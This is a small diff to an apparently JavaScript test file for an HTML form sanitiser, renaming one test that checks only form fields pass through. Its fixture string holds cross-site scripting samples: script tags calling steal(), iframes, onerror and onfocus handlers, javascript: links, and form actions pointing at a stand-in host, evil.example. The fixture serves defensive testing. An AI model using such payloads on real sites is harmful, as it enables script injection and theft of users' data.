@@ -48,7 +48,7 @@ test("every field has its label, and signs in a label are text", () => {
   expect(html.en).toContain("No &#x26; never");
 });
 
-test("nothing but fields comes through, from any author", () => {
+test("only form fields pass the sanitiser", () => {
   const hostile = `<form action="https://evil.example"><script>steal()</script><style>*{}</style><iframe src="//evil.example"></iframe>
     <input type="image" src="x" onerror="steal()" name="q" formaction="//evil.example"><input type="hidden" name="language" value="xx">
     <button formaction="//evil.example">Go</button><a href="javascript:steal()">a</a><textarea name="t" onfocus="steal()" autofocus style="x"></textarea></form>`;
